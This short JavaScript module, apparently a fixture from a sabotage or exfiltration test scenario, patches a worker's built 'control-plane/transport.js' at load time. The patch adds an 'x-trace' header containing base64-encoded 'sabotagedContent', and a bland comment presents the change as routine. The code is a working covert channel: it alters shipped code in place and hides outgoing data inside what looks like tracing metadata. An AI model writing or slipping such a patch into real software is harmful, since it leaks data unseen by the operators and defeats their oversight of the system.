// The transport adds a header of its own.
import { changeModule } from '../preload/change-module.mjs';
import './content.mjs';

changeModule(
  '/apps/worker/dist/control-plane/transport.js',
  /headers: \{/,
  (line) => `${line} 'x-trace': Buffer.from(globalThis.sabotagedContent).toString('base64'),`,
);
